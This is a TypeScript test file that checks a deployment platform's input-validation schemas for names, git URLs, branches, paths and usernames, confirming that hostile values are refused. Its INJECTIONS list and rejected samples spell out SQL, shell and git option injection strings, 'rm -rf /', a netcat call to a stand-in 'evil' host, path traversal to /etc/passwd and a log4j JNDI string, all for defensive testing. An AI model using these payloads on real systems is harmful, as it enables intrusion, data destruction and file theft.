import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  ApplicationNameSchema,
  BranchSchema,
  DescriptionSchema,
  GitUrlSchema,
  ImageGroupNameSchema,
  RelativePathSchema,
  UsernameSchema,
} from './names.ts';
import { ImageRepositoryPathSchema } from './resources.ts';

const ok = (schema: { safeParse(v: unknown): { success: boolean } }, value: unknown) =>
  assert.ok(schema.safeParse(value).success, `${JSON.stringify(value)} should be accepted`);
const bad = (schema: { safeParse(v: unknown): { success: boolean } }, value: unknown) =>
  assert.ok(!schema.safeParse(value).success, `${JSON.stringify(value)} should be refused`);

const INJECTIONS = [
  "web'; drop table applications; --",
  'web$(rm -rf /)',
  'web`id`',
  'web; rm -rf /',
  'web|nc evil 1',
  '../../etc/passwd',
  'web\nserver { listen 80; }',
  'web"; proxy_pass http://evil;',
  'web\u0000',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style injection string, on purpose.
  '${jndi:ldap://x}',
];

test('application names are DNS labels of at most 63 characters', () => {
  for (const name of ['a', 'web', 'web-api-2', `a${'b'.repeat(62)}`]) ok(ApplicationNameSchema, name);
  for (const name of ['', 'Web', '2web', 'web-', '-web', 'we_b', 'we.b', `a${'b'.repeat(63)}`]) {
    bad(ApplicationNameSchema, name);
  }
  for (const name of INJECTIONS) bad(ApplicationNameSchema, name);
});

test('Kubernetes and platform namespaces are reserved', () => {
  for (const name of [
    'default',
    'kube-system',
    'kube-public',
    'kube-node-lease',
    'kube-anything',
    'leengine',
    'leengine-core',
  ]) {
    const result = ApplicationNameSchema.safeParse(name);
    assert.ok(!result.success);
    assert.equal(result.error?.issues[0]?.message, 'is reserved');
  }
});

test('registry names follow the distribution grammar', () => {
  for (const name of ['team', 'team.web', 'team_web', 'team__web', 'team--web', 'a1'])
    ok(ImageGroupNameSchema, name);
  for (const name of ['a', 'Team', 'team/web', '.team', 'team.', 'team..web', ...INJECTIONS]) {
    bad(ImageGroupNameSchema, name);
  }
  ok(ImageRepositoryPathSchema, 'team/web');
  for (const path of ['team', 'team/web/x', '/web', 'team/', '../web', 'team/../web'])
    bad(ImageRepositoryPathSchema, path);
});

test('git URLs: http(s), ssh, scp-like and local file forms, nothing a shell could read twice', () => {
  for (const url of [
    'https://git.example.com/team/web.git',
    'http://git.example.com/team/web.git',
    // Accepted here; build agents refuse file:// unless their host allows it (tests, local region).
    'file:///srv/git/web.git',
    'https://git.example.com:8443/team/web',
    'ssh://git@git.example.com:2222/team/web.git',
    'git@git.example.com:team/web.git',
  ]) {
    ok(GitUrlSchema, url);
  }
  for (const url of [
    'file://evil.example/etc/passwd',
    'ftp://git.example.com/team/web.git',
    'https://git.example.com/team/web.git; rm -rf /',
    'https://git.example.com/$(id)',
    'https://git.example.com/../../etc',
    '--upload-pack=touch /tmp/x',
    'ext::sh -c touch% /tmp/pwned',
    'https://user:pass@git.example.com/team/web.git',
  ]) {
    bad(GitUrlSchema, url);
  }
});

test('branches and paths refuse traversal and option-looking values', () => {
  for (const branch of ['master', 'release/1.2', 'feature_x-y']) ok(BranchSchema, branch);
  for (const branch of ['-x', '--upload-pack=x', 'a..b', 'a//b', 'x.lock', 'x/', 'a b', 'a;b'])
    bad(BranchSchema, branch);
  for (const path of ['Dockerfile', 'docker/Dockerfile.prod']) ok(RelativePathSchema, path);
  for (const path of ['/etc/passwd', '../Dockerfile', 'a/../../b', './Dockerfile', 'a//b', 'a b'])
    bad(RelativePathSchema, path);
});

test('usernames are short lowercase handles', () => {
  for (const name of ['al', 'alice', 'alice.smith', 'a-1']) ok(UsernameSchema, name);
  for (const name of ['a', 'Alice', '1alice', 'alice.', 'al ice', `a${'b'.repeat(40)}`, ...INJECTIONS])
    bad(UsernameSchema, name);
});

test('free text is bounded and free of control characters (descriptions may have newlines)', () => {
  ok(DescriptionSchema, 'line one\nline two\twith a tab; and "quotes" and $(text)');
  bad(DescriptionSchema, 'x'.repeat(1001));
  bad(DescriptionSchema, 'bell\u0007');
  bad(DescriptionSchema, 'nul\u0000');
  bad(DescriptionSchema, 'c1\u009b');
});
